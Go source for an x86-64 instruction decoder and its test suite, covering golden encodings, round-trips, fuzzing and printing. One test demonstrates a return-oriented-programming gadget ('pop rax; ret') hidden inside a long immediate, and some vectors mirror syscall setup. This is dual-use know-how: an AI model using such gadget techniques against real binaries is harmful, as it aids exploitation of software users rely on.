		if d.rex&rexB != 0 {
			r |= 8
		}
		return reg, RegOp(r), nil
	}

	var m Mem
	useSIB := rm == 4
	if useSIB {
		sib, err := d.u8()
		if err != nil {
			return 0, Operand{}, err
		}
		scale := uint8(1) << (sib >> 6)
		idx := (sib >> 3) & 7
		base := sib & 7
		if d.rex&rexX != 0 {
			idx |= 8
		}
		if idx != 4 { // index 100 (rsp) means "no index"
			m.HasIndex = true
			m.Index = Reg(idx)
			m.Scale = scale
		}
		if mod == 0 && base == 5 {
			// No base register, disp32 follows.
		} else {
			m.HasBase = true
			m.Base = Reg(base)
			if d.rex&rexB != 0 {
				m.Base |= 8
			}
		}
	} else if mod == 0 && rm == 5 {
		m.RIPRel = true
	} else {
		m.HasBase = true
		m.Base = Reg(rm)
		if d.rex&rexB != 0 {
			m.Base |= 8
		}
	}

	switch {
	case mod == 1:
		v, err := d.i8()
		if err != nil {
			return 0, Operand{}, err
		}
		m.Disp = int32(v)
	case mod == 2 || m.RIPRel || (useSIB && mod == 0 && !m.HasBase):
		v, err := d.i32()
		if err != nil {
			return 0, Operand{}, err
		}
		m.Disp = int32(v)
	}
	return reg, Operand{Kind: KindMem, Mem: m}, nil
}

// opcodeReg extracts the low-3-bit register from a "+r" opcode, extended by
// REX.B.
func (d *decoder) opcodeReg(op byte) Reg {
	r := Reg(op & 7)
	if d.rex&rexB != 0 {
		r |= 8
	}
	return r
}

// alu8 maps the 8-bit group-1 ALU opcodes to mnemonics. The bool reports
// whether the direction is r/m <- reg (true) or reg <- r/m (false).
func alu8(op byte) (Op, bool, bool) {
	switch op {
	case 0x00:
		return OpAdd, true, true
	case 0x02:
		return OpAdd, false, true
	case 0x08:
		return OpOr, true, true
	case 0x0A:
		return OpOr, false, true
	case 0x20:
		return OpAnd, true, true
	case 0x22:
		return OpAnd, false, true
	case 0x28:
		return OpSub, true, true
	case 0x2A:
		return OpSub, false, true
	case 0x30:
		return OpXor, true, true
	case 0x32:
		return OpXor, false, true
	case 0x38:
		return OpCmp, true, true
	case 0x3A:
		return OpCmp, false, true
	}
	return OpInvalid, false, false
}

// alu64 maps the 32/64-bit group-1 ALU opcodes.
func alu64(op byte) (Op, bool, bool) {
	switch op {
	case 0x01:
		return OpAdd, true, true
	case 0x03:
		return OpAdd, false, true
	case 0x09:
		return OpOr, true, true
	case 0x0B:
		return OpOr, false, true
	case 0x21:
		return OpAnd, true, true
	case 0x23:
		return OpAnd, false, true
	case 0x29:
		return OpSub, true, true
	case 0x2B:
		return OpSub, false, true
	case 0x31:
		return OpXor, true, true
	case 0x33:
		return OpXor, false, true
	case 0x39:
		return OpCmp, true, true
	case 0x3B:
		return OpCmp, false, true
	}
	return OpInvalid, false, false
}

var _group81 = map[uint8]Op{0: OpAdd, 1: OpOr, 4: OpAnd, 5: OpSub, 6: OpXor, 7: OpCmp}
var _shiftOps = map[uint8]Op{4: OpShl, 5: OpShr, 7: OpSar}

// Decode decodes the instruction starting at code[0], which is assumed to
// live at virtual address addr. Relative branch targets are resolved to
// absolute addresses. Unsupported or illegal byte sequences return a
// *DecodeError; buffers that end mid-instruction return ErrTruncated.
func Decode(code []byte, addr uint64) (Inst, error) {
	d := decoder{code: code, addr: addr}
	op, err := d.u8()
	if err != nil {
		return Inst{}, err
	}
	if op >= 0x40 && op <= 0x4F {
		d.rex = op & 0x0F
		d.has = true
		op, err = d.u8()
		if err != nil {
			return Inst{}, err
		}
	}

	inst, err := d.decodeOp(op)
	if err != nil {
		return Inst{}, err
	}
	inst.Addr = addr
	inst.Len = uint8(d.pos)
	return inst, nil
}

func (d *decoder) decodeOp(op byte) (Inst, error) {
	size := d.size()

	// Single-byte, operand-free opcodes.
	switch op {
	case 0x90:
		return Inst{Op: OpNop}, nil
	case 0xC3:
		return Inst{Op: OpRet}, nil
	case 0xC9:
		return Inst{Op: OpLeave}, nil
	case 0xCC:
		return Inst{Op: OpInt3}, nil
	case 0xF4:
		return Inst{Op: OpHlt}, nil
	case 0x99:
		return Inst{Op: OpCqo, Size: size}, nil
	}

	// push/pop reg.
	if op >= 0x50 && op <= 0x57 {
		return Inst{Op: OpPush, A: RegOp(d.opcodeReg(op))}, nil
	}
	if op >= 0x58 && op <= 0x5F {
		return Inst{Op: OpPop, A: RegOp(d.opcodeReg(op))}, nil
	}
	// mov reg, imm.
	if op >= 0xB8 && op <= 0xBF {
		r := d.opcodeReg(op)
		if d.rex&rexW != 0 {
			v, err := d.i64()
			if err != nil {
				return Inst{}, err
			}
			return Inst{Op: OpMov, Size: 8, A: RegOp(r), B: ImmOp(v)}, nil
		}
		v, err := d.i32()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpMov, Size: 4, A: RegOp(r), B: ImmOp(v)}, nil
	}
	// jcc rel8.
	if op >= 0x70 && op <= 0x7F {
		rel, err := d.i8()
		if err != nil {
			return Inst{}, err
		}
		target := d.addr + uint64(d.pos) + uint64(rel)
		return Inst{Op: OpJcc, Cond: Cond(op & 0x0F), A: ImmOp(int64(target))}, nil
	}

	// Group-1 ALU register forms.
	if mn, rmDst, ok := alu64(op); ok {
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		if rmDst {
			return Inst{Op: mn, Size: size, A: rm, B: RegOp(Reg(reg))}, nil
		}
		return Inst{Op: mn, Size: size, A: RegOp(Reg(reg)), B: rm}, nil
	}
	if mn, rmDst, ok := alu8(op); ok {
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		if rmDst {
			return Inst{Op: mn, Size: 1, A: rm, B: RegOp(Reg(reg))}, nil
		}
		return Inst{Op: mn, Size: 1, A: RegOp(Reg(reg)), B: rm}, nil
	}

	switch op {
	case 0x63: // movsxd
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpMovsxd, Size: 8, A: RegOp(Reg(reg)), B: rm}, nil

	case 0x68:
		v, err := d.i32()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpPush, A: ImmOp(v)}, nil
	case 0x6A:
		v, err := d.i8()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpPush, A: ImmOp(v)}, nil

	case 0x81, 0x83:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		mn, ok := _group81[uint8(reg&7)]
		if !ok {
			return Inst{}, decErr(d.addr, op, "unsupported group-1 digit")
		}
		var v int64
		if op == 0x81 {
			v, err = d.i32()
		} else {
			v, err = d.i8()
		}
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: mn, Size: size, A: rm, B: ImmOp(v)}, nil

	case 0x84, 0x85:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		sz := size
		if op == 0x84 {
			sz = 1
		}
		return Inst{Op: OpTest, Size: sz, A: rm, B: RegOp(Reg(reg))}, nil

	case 0x87:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpXchg, Size: size, A: rm, B: RegOp(Reg(reg))}, nil

	case 0x88, 0x89:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		sz := size
		if op == 0x88 {
			sz = 1
		}
		return Inst{Op: OpMov, Size: sz, A: rm, B: RegOp(Reg(reg))}, nil

	case 0x8A, 0x8B:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		sz := size
		if op == 0x8A {
			sz = 1
		}
		return Inst{Op: OpMov, Size: sz, A: RegOp(Reg(reg)), B: rm}, nil

	case 0x8D:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		if rm.Kind != KindMem {
			return Inst{}, decErr(d.addr, op, "lea with register source")
		}
		return Inst{Op: OpLea, Size: size, A: RegOp(Reg(reg)), B: rm}, nil

	case 0x8F:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		if reg&7 != 0 {
			return Inst{}, decErr(d.addr, op, "unsupported 8F digit")
		}
		return Inst{Op: OpPop, A: rm}, nil

	case 0xC0, 0xC1:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		mn, ok := _shiftOps[uint8(reg&7)]
		if !ok {
			return Inst{}, decErr(d.addr, op, "unsupported shift digit")
		}
		v, err := d.i8()
		if err != nil {
			return Inst{}, err
		}
		sz := size
		if op == 0xC0 {
			sz = 1
		}
		return Inst{Op: mn, Size: sz, A: rm, B: ImmOp(v & 0x3F)}, nil

	case 0xD1, 0xD3:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		mn, ok := _shiftOps[uint8(reg&7)]
		if !ok {
			return Inst{}, decErr(d.addr, op, "unsupported shift digit")
		}
		if op == 0xD1 {
			return Inst{Op: mn, Size: size, A: rm, B: ImmOp(1)}, nil
		}
		return Inst{Op: mn, Size: size, A: rm, B: RegOp(RCX)}, nil

	case 0xC2:
		v, err := d.i16()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpRet, A: ImmOp(v)}, nil

	case 0xC6:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		if reg&7 != 0 {
			return Inst{}, decErr(d.addr, op, "unsupported C6 digit")
		}
		v, err := d.i8()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpMov, Size: 1, A: rm, B: ImmOp(v)}, nil

	case 0xC7:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		if reg&7 != 0 {
			return Inst{}, decErr(d.addr, op, "unsupported C7 digit")
		}
		v, err := d.i32()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpMov, Size: size, A: rm, B: ImmOp(v)}, nil

	case 0xE8, 0xE9:
		rel, err := d.i32()
		if err != nil {
			return Inst{}, err
		}
		target := d.addr + uint64(d.pos) + uint64(rel)
		mn := OpCall
		if op == 0xE9 {
			mn = OpJmp
		}
		return Inst{Op: mn, A: ImmOp(int64(target))}, nil

	case 0xEB:
		rel, err := d.i8()
		if err != nil {
			return Inst{}, err
		}
		target := d.addr + uint64(d.pos) + uint64(rel)
		return Inst{Op: OpJmp, A: ImmOp(int64(target))}, nil

	case 0xF7:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		switch reg & 7 {
		case 0:
			v, err := d.i32()
			if err != nil {
				return Inst{}, err
			}
			return Inst{Op: OpTest, Size: size, A: rm, B: ImmOp(v)}, nil
		case 2:
			return Inst{Op: OpNot, Size: size, A: rm}, nil
		case 3:
			return Inst{Op: OpNeg, Size: size, A: rm}, nil
		case 7:
			return Inst{Op: OpIdiv, Size: size, A: rm}, nil
		default:
			return Inst{}, decErr(d.addr, op, "unsupported F7 digit")
		}

	case 0xFF:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		switch reg & 7 {
		case 0:
			return Inst{Op: OpInc, Size: size, A: rm}, nil
		case 1:
			return Inst{Op: OpDec, Size: size, A: rm}, nil
		case 2:
			return Inst{Op: OpCall, A: rm}, nil
		case 4:
			return Inst{Op: OpJmp, A: rm}, nil
		case 6:
			return Inst{Op: OpPush, A: rm}, nil
		default:
			return Inst{}, decErr(d.addr, op, "unsupported FF digit")
		}

	case 0x0F:
		return d.decode0F()
	}

	return Inst{}, decErr(d.addr, op, "unknown opcode")
}

// decode0F decodes the two-byte (0F-prefixed) opcode space.
func (d *decoder) decode0F() (Inst, error) {
	op, err := d.u8()
	if err != nil {
		return Inst{}, err
	}
	size := d.size()

	switch {
	case op == 0x05:
		return Inst{Op: OpSyscall}, nil

	case op >= 0x80 && op <= 0x8F:
		rel, err := d.i32()
		if err != nil {
			return Inst{}, err
		}
		target := d.addr + uint64(d.pos) + uint64(rel)
		return Inst{Op: OpJcc, Cond: Cond(op & 0x0F), A: ImmOp(int64(target))}, nil

	case op >= 0x90 && op <= 0x9F:
		_, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpSetcc, Cond: Cond(op & 0x0F), Size: 1, A: rm}, nil

	case op == 0xAF:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpImul, Size: size, A: RegOp(Reg(reg)), B: rm}, nil

	case op == 0xB6:
		reg, rm, err := d.modRM()
		if err != nil {
			return Inst{}, err
		}
		return Inst{Op: OpMovzx, Size: size, A: RegOp(Reg(reg)), B: rm}, nil
	}

	return Inst{}, decErr(d.addr, op, "unknown 0F opcode")
}
