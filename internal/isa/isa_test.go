package isa

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

// golden encodings checked against the Intel SDM / a reference assembler.
func TestEncodeGolden(t *testing.T) {
	tests := []struct {
		name string
		inst Inst
		pc   uint64
		want []byte
	}{
		{"push rax", Inst{Op: OpPush, A: RegOp(RAX)}, 0, []byte{0x50}},
		{"push r8", Inst{Op: OpPush, A: RegOp(R8)}, 0, []byte{0x41, 0x50}},
		{"pop rdi", Inst{Op: OpPop, A: RegOp(RDI)}, 0, []byte{0x5F}},
		{"pop r15", Inst{Op: OpPop, A: RegOp(R15)}, 0, []byte{0x41, 0x5F}},
		{"ret", Inst{Op: OpRet}, 0, []byte{0xC3}},
		{"ret 8", Inst{Op: OpRet, A: ImmOp(8)}, 0, []byte{0xC2, 0x08, 0x00}},
		{"nop", Inst{Op: OpNop}, 0, []byte{0x90}},
		{"leave", Inst{Op: OpLeave}, 0, []byte{0xC9}},
		{"syscall", Inst{Op: OpSyscall}, 0, []byte{0x0F, 0x05}},
		{"cqo", Inst{Op: OpCqo, Size: 8}, 0, []byte{0x48, 0x99}},
		{
			"mov rax, 0x3b",
			Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: ImmOp(0x3B)},
			0,
			[]byte{0x48, 0xC7, 0xC0, 0x3B, 0x00, 0x00, 0x00},
		},
		{
			"mov rdi, rsi",
			Inst{Op: OpMov, Size: 8, A: RegOp(RDI), B: RegOp(RSI)},
			0,
			[]byte{0x48, 0x89, 0xF7},
		},
		{
			"add rax, rbx",
			Inst{Op: OpAdd, Size: 8, A: RegOp(RAX), B: RegOp(RBX)},
			0,
			[]byte{0x48, 0x01, 0xD8},
		},
		{
			"sub rsp, 8",
			Inst{Op: OpSub, Size: 8, A: RegOp(RSP), B: ImmOp(8)},
			0,
			[]byte{0x48, 0x83, 0xEC, 0x08},
		},
		{
			"xor edi, edi",
			Inst{Op: OpXor, Size: 4, A: RegOp(RDI), B: RegOp(RDI)},
			0,
			[]byte{0x31, 0xFF},
		},
		{"jmp rax", Inst{Op: OpJmp, A: RegOp(RAX)}, 0, []byte{0xFF, 0xE0}},
		{"call rbx", Inst{Op: OpCall, A: RegOp(RBX)}, 0, []byte{0xFF, 0xD3}},
		{
			"lea rax, [rbp-8]",
			Inst{Op: OpLea, Size: 8, A: RegOp(RAX), B: MemOp(RBP, -8)},
			0,
			[]byte{0x48, 0x8D, 0x45, 0xF8},
		},
		{
			"mov rax, [rsp+0x10]",
			Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: MemOp(RSP, 0x10)},
			0,
			[]byte{0x48, 0x8B, 0x44, 0x24, 0x10},
		},
		{
			"mov [rbp-0x10], rdi",
			Inst{Op: OpMov, Size: 8, A: MemOp(RBP, -0x10), B: RegOp(RDI)},
			0,
			[]byte{0x48, 0x89, 0x7D, 0xF0},
		},
		{
			"test rax, rax",
			Inst{Op: OpTest, Size: 8, A: RegOp(RAX), B: RegOp(RAX)},
			0,
			[]byte{0x48, 0x85, 0xC0},
		},
		{
			"jne +0x10",
			Inst{Op: OpJcc, Cond: CondNE, A: ImmOp(0x1010)},
			0x1000,
			[]byte{0x0F, 0x85, 0x0A, 0x00, 0x00, 0x00},
		},
		{
			"jmp +0x20",
			Inst{Op: OpJmp, A: ImmOp(0x1020)},
			0x1000,
			[]byte{0xE9, 0x1B, 0x00, 0x00, 0x00},
		},
		{
			"call -0x100",
			Inst{Op: OpCall, A: ImmOp(0xF00)},
			0x1000,
			[]byte{0xE8, 0xFB, 0xFE, 0xFF, 0xFF},
		},
		{
			"movzx eax, byte [rdi]",
			Inst{Op: OpMovzx, Size: 4, A: RegOp(RAX), B: MemOp(RDI, 0)},
			0,
			[]byte{0x0F, 0xB6, 0x07},
		},
		{
			"imul rax, rdx",
			Inst{Op: OpImul, Size: 8, A: RegOp(RAX), B: RegOp(RDX)},
			0,
			[]byte{0x48, 0x0F, 0xAF, 0xC2},
		},
		{
			"shl rax, 4",
			Inst{Op: OpShl, Size: 8, A: RegOp(RAX), B: ImmOp(4)},
			0,
			[]byte{0x48, 0xC1, 0xE0, 0x04},
		},
		{
			"not rcx",
			Inst{Op: OpNot, Size: 8, A: RegOp(RCX)},
			0,
			[]byte{0x48, 0xF7, 0xD1},
		},
		{
			"movabs rax",
			Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: ImmOp(0x123456789A)},
			0,
			[]byte{0x48, 0xB8, 0x9A, 0x78, 0x56, 0x34, 0x12, 0x00, 0x00, 0x00},
		},
		{
			"mov rax, uint32-range imm uses 32-bit zero-extending form",
			Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: ImmOp(0x89ABCDEF)},
			0,
			[]byte{0xB8, 0xEF, 0xCD, 0xAB, 0x89},
		},
		{
			"mov qword [rsp], 7",
			Inst{Op: OpMov, Size: 8, A: MemOp(RSP, 0), B: ImmOp(7)},
			0,
			[]byte{0x48, 0xC7, 0x04, 0x24, 0x07, 0x00, 0x00, 0x00},
		},
		{
			"mov rax, [rbx+rcx*8+0x40]",
			Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: MemOpIdx(RBX, RCX, 8, 0x40)},
			0,
			[]byte{0x48, 0x8B, 0x44, 0xCB, 0x40},
		},
		{
			"inc r10",
			Inst{Op: OpInc, Size: 8, A: RegOp(R10)},
			0,
			[]byte{0x49, 0xFF, 0xC2},
		},
		{
			"mov byte [rdi], sil",
			Inst{Op: OpMov, Size: 1, A: MemOp(RDI, 0), B: RegOp(RSI)},
			0,
			[]byte{0x40, 0x88, 0x37},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Encode(tt.inst, tt.pc)
			if err != nil {
				t.Fatalf("Encode: %v", err)
			}
			if !bytes.Equal(got, tt.want) {
				t.Fatalf("Encode(%s) = %x, want %x", tt.inst, got, tt.want)
			}
		})
	}
}

// roundTrip encodes, decodes, and re-encodes the instruction, requiring the
// re-encoding to be byte-identical. This is the canonical self-consistency
// check: decode(encode(i)) may legally normalize an instruction, but a second
// encode of the decoded form must be stable.
func roundTrip(t *testing.T, inst Inst, pc uint64) Inst {
	t.Helper()
	enc, err := Encode(inst, pc)
	if err != nil {
		t.Fatalf("Encode(%s): %v", inst, err)
	}
	dec, err := Decode(enc, pc)
	if err != nil {
		t.Fatalf("Decode(%x) of %s: %v", enc, inst, err)
	}
	if int(dec.Len) != len(enc) {
		t.Fatalf("Decode(%s): consumed %d of %d bytes", inst, dec.Len, len(enc))
	}
	enc2, err := Encode(dec, pc)
	if err != nil {
		t.Fatalf("re-Encode(%s): %v", dec, err)
	}
	if !bytes.Equal(enc, enc2) {
		t.Fatalf("unstable encoding for %s: %x vs %x (decoded %s)", inst, enc, enc2, dec)
	}
	return dec
}

func TestRoundTripTable(t *testing.T) {
	regs := []Reg{RAX, RCX, RDX, RBX, RSP, RBP, RSI, RDI, R8, R12, R13, R15}
	var insts []Inst
	for _, r := range regs {
		insts = append(insts,
			Inst{Op: OpPush, A: RegOp(r)},
			Inst{Op: OpPop, A: RegOp(r)},
			Inst{Op: OpInc, Size: 8, A: RegOp(r)},
			Inst{Op: OpDec, Size: 4, A: RegOp(r)},
			Inst{Op: OpNot, Size: 8, A: RegOp(r)},
			Inst{Op: OpNeg, Size: 8, A: RegOp(r)},
			Inst{Op: OpJmp, A: RegOp(r)},
			Inst{Op: OpCall, A: RegOp(r)},
			Inst{Op: OpMov, Size: 8, A: RegOp(r), B: ImmOp(-5)},
			Inst{Op: OpMov, Size: 8, A: RegOp(r), B: ImmOp(0x1122334455)},
		)
		for _, r2 := range regs {
			insts = append(insts,
				Inst{Op: OpMov, Size: 8, A: RegOp(r), B: RegOp(r2)},
				Inst{Op: OpAdd, Size: 8, A: RegOp(r), B: RegOp(r2)},
				Inst{Op: OpXor, Size: 4, A: RegOp(r), B: RegOp(r2)},
				Inst{Op: OpXchg, Size: 8, A: RegOp(r), B: RegOp(r2)},
				Inst{Op: OpMov, Size: 8, A: RegOp(r), B: MemOp(r2, 0x28)},
				Inst{Op: OpMov, Size: 8, A: MemOp(r2, -0x28), B: RegOp(r)},
				Inst{Op: OpLea, Size: 8, A: RegOp(r), B: MemOp(r2, 0x1234)},
			)
		}
	}
	insts = append(insts,
		Inst{Op: OpPush, A: ImmOp(0x12345)},
		Inst{Op: OpPush, A: ImmOp(-1)},
		Inst{Op: OpPush, A: MemOp(RAX, 8)},
		Inst{Op: OpPop, A: MemOp(RBX, 0x10)},
		Inst{Op: OpJmp, A: MemOp(RAX, 0x18)},
		Inst{Op: OpCall, A: MemOp(R11, 0)},
		Inst{Op: OpTest, Size: 8, A: RegOp(RAX), B: ImmOp(0x70)},
		Inst{Op: OpSetcc, Cond: CondLE, Size: 1, A: RegOp(RDX)},
		Inst{Op: OpMovzx, Size: 8, A: RegOp(RCX), B: MemOp(RSI, 3)},
		Inst{Op: OpMovsxd, Size: 8, A: RegOp(RCX), B: RegOp(RDX)},
		Inst{Op: OpIdiv, Size: 8, A: RegOp(RBX)},
		Inst{Op: OpImul, Size: 8, A: RegOp(R9), B: MemOp(RSP, 0x40)},
		Inst{Op: OpShl, Size: 8, A: RegOp(RSI), B: RegOp(RCX)},
		Inst{Op: OpSar, Size: 8, A: RegOp(RSI), B: ImmOp(63)},
		Inst{Op: OpMov, Size: 1, A: MemOp(RDI, 1), B: RegOp(RAX)},
		Inst{Op: OpMov, Size: 1, A: RegOp(RAX), B: MemOp(RDI, 1)},
		Inst{Op: OpMov, Size: 1, A: MemOp(RDI, 0), B: ImmOp(0x41)},
		Inst{Op: OpCmp, Size: 1, A: RegOp(RAX), B: RegOp(RBX)},
		Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: MemOpIdx(RBX, RDX, 4, -8)},
		Inst{Op: OpMov, Size: 8, A: MemOpIdx(R13, R14, 2, 0), B: RegOp(R15)},
		Inst{Op: OpLea, Size: 8, A: RegOp(RAX), B: RIPOp(0x1000)},
		Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: RIPOp(-0x20)},
		Inst{Op: OpAdd, Size: 8, A: MemOp(RSP, 0x30), B: ImmOp(0x1000)},
		Inst{Op: OpRet, A: ImmOp(0x10)},
	)

	for _, inst := range insts {
		dec := roundTrip(t, inst, 0x400000)
		if dec.Op != inst.Op {
			t.Errorf("op changed: %s -> %s", inst, dec)
		}
	}
}

func TestRoundTripBranches(t *testing.T) {
	pcs := []uint64{0x1000, 0x400000, 0x7FFF0000}
	for _, pc := range pcs {
		for _, delta := range []int64{-0x100000, -6, 0, 5, 6, 0x7FFF, 0x100000} {
			target := uint64(int64(pc) + delta)
			for _, inst := range []Inst{
				{Op: OpJmp, A: ImmOp(int64(target))},
				{Op: OpCall, A: ImmOp(int64(target))},
				{Op: OpJcc, Cond: CondG, A: ImmOp(int64(target))},
				{Op: OpJcc, Cond: CondB, A: ImmOp(int64(target))},
			} {
				dec := roundTrip(t, inst, pc)
				if uint64(dec.A.Imm) != target {
					t.Fatalf("%s at %#x: target %#x, want %#x", inst.Op, pc, dec.A.Imm, target)
				}
				if dec.Op == OpJcc && dec.Cond != inst.Cond {
					t.Fatalf("jcc cond changed: %v -> %v", inst.Cond, dec.Cond)
				}
			}
		}
	}
}

// quick-check: random mov/ALU register-register instructions round-trip.
func TestQuickRegReg(t *testing.T) {
	ops := []Op{OpMov, OpAdd, OpSub, OpAnd, OpOr, OpXor, OpCmp, OpTest, OpXchg, OpImul}
	f := func(opIdx, a, b uint8, wide bool) bool {
		op := ops[int(opIdx)%len(ops)]
		size := uint8(4)
		if wide {
			size = 8
		}
		inst := Inst{Op: op, Size: size, A: RegOp(Reg(a % 16)), B: RegOp(Reg(b % 16))}
		enc, err := Encode(inst, 0)
		if err != nil {
			return false
		}
		dec, err := Decode(enc, 0)
		if err != nil {
			return false
		}
		return dec.Op == inst.Op && dec.Size == size &&
			dec.A.Kind == KindReg && dec.B.Kind == KindReg &&
			dec.A.Reg == inst.A.Reg && dec.B.Reg == inst.B.Reg
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// quick-check: random memory operands survive the ModRM/SIB encoder.
func TestQuickMemOperand(t *testing.T) {
	f := func(base, index uint8, scaleSel uint8, disp int32, hasIndex bool) bool {
		m := Mem{Base: Reg(base % 16), HasBase: true, Disp: disp}
		if hasIndex {
			idx := Reg(index % 16)
			if idx == RSP {
				idx = RBP
			}
			m.Index = idx
			m.HasIndex = true
			m.Scale = []uint8{1, 2, 4, 8}[scaleSel%4]
		}
		inst := Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: Operand{Kind: KindMem, Mem: m}}
		enc, err := Encode(inst, 0)
		if err != nil {
			return false
		}
		dec, err := Decode(enc, 0)
		if err != nil {
			return false
		}
		dm := dec.B.Mem
		if dm.HasBase != m.HasBase || dm.Base != m.Base || dm.Disp != m.Disp {
			return false
		}
		if dm.HasIndex != m.HasIndex {
			return false
		}
		if m.HasIndex && (dm.Index != m.Index || dm.Scale != m.Scale) {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 4000}); err != nil {
		t.Fatal(err)
	}
}

// quick-check: mov reg, imm64 preserves the 64-bit value under the
// zero-extension / sign-extension encoding selection.
func TestQuickMovImm(t *testing.T) {
	f := func(r uint8, v int64) bool {
		inst := Inst{Op: OpMov, Size: 8, A: RegOp(Reg(r % 16)), B: ImmOp(v)}
		enc, err := Encode(inst, 0)
		if err != nil {
			return false
		}
		dec, err := Decode(enc, 0)
		if err != nil {
			return false
		}
		if dec.Op != OpMov || dec.A.Reg != inst.A.Reg || dec.B.Kind != KindImm {
			return false
		}
		// Compute the architectural result of the decoded form.
		var got uint64
		if dec.Size == 4 {
			got = uint64(uint32(dec.B.Imm)) // 32-bit writes zero-extend
		} else {
			got = uint64(dec.B.Imm)
		}
		return got == uint64(v)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 4000}); err != nil {
		t.Fatal(err)
	}
}

// The decoder must never panic and must make progress on any byte soup.
func TestDecodeRandomBytesSafe(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	buf := make([]byte, 64)
	for i := 0; i < 20000; i++ {
		rng.Read(buf)
		inst, err := Decode(buf, 0x400000)
		if err != nil {
			continue
		}
		if inst.Len == 0 || inst.Len > 16 {
			t.Fatalf("bad decoded length %d for %x", inst.Len, buf[:16])
		}
		_ = inst.String() // printer must not panic either
	}
}

func TestDecodeTruncated(t *testing.T) {
	full, err := Encode(Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: ImmOp(0x11223344556677)}, 0)
	if err != nil {
		t.Fatal(err)
	}
	for n := 0; n < len(full); n++ {
		if _, err := Decode(full[:n], 0); err == nil {
			t.Fatalf("expected error decoding %d-byte prefix", n)
		}
	}
}

func TestUnalignedDecodeFindsHiddenGadget(t *testing.T) {
	// The classic x86 trick: the tail bytes of a long immediate decode as a
	// different instruction. mov rax, 0x00C3580000000000 embeds "pop rax; ret"
	// (58 C3) inside the immediate.
	inst := Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: ImmOp(0x00C3_5800_0000_0000)}
	enc, err := Encode(inst, 0)
	if err != nil {
		t.Fatal(err)
	}
	// Bytes: 48 B8 00 00 00 00 00 58 C3 00.
	sub, err := Decode(enc[7:], 7)
	if err != nil {
		t.Fatalf("unaligned decode: %v", err)
	}
	if sub.Op != OpPop || sub.A.Reg != RAX {
		t.Fatalf("expected hidden pop rax, got %s", sub)
	}
	ret, err := Decode(enc[8:], 8)
	if err != nil || ret.Op != OpRet {
		t.Fatalf("expected hidden ret, got %v %v", ret, err)
	}
}

func TestCondNegate(t *testing.T) {
	pairs := map[Cond]Cond{
		CondE: CondNE, CondL: CondGE, CondLE: CondG, CondB: CondAE,
		CondBE: CondA, CondS: CondNS, CondO: CondNO, CondP: CondNP,
	}
	for c, want := range pairs {
		if got := c.Negate(); got != want {
			t.Errorf("Negate(%v) = %v, want %v", c, got, want)
		}
		if got := want.Negate(); got != c {
			t.Errorf("Negate(%v) = %v, want %v", want, got, c)
		}
	}
}

func TestRegByName(t *testing.T) {
	for r := Reg(0); r < NumRegs; r++ {
		for _, size := range []uint8{1, 4, 8} {
			got, ok := RegByName(r.Name(size))
			if !ok || got != r {
				t.Errorf("RegByName(%q) = %v, %v", r.Name(size), got, ok)
			}
		}
	}
	if _, ok := RegByName("bogus"); ok {
		t.Error("RegByName accepted a bogus name")
	}
}

func TestPrintForms(t *testing.T) {
	tests := []struct {
		inst Inst
		want string
	}{
		{Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: ImmOp(0x3B)}, "mov rax, 0x3b"},
		{Inst{Op: OpPop, A: RegOp(RDI)}, "pop rdi"},
		{Inst{Op: OpRet}, "ret"},
		{Inst{Op: OpSyscall}, "syscall"},
		{Inst{Op: OpJcc, Cond: CondNE, A: ImmOp(0x401234)}, "jne 0x401234"},
		{Inst{Op: OpJmp, A: RegOp(RAX)}, "jmp rax"},
		{Inst{Op: OpMov, Size: 8, A: RegOp(RBX), B: MemOp(RSP, 8)}, "mov rbx, qword [rsp+0x8]"},
		{Inst{Op: OpMov, Size: 1, A: MemOp(RDI, 0), B: RegOp(RAX)}, "mov byte [rdi], al"},
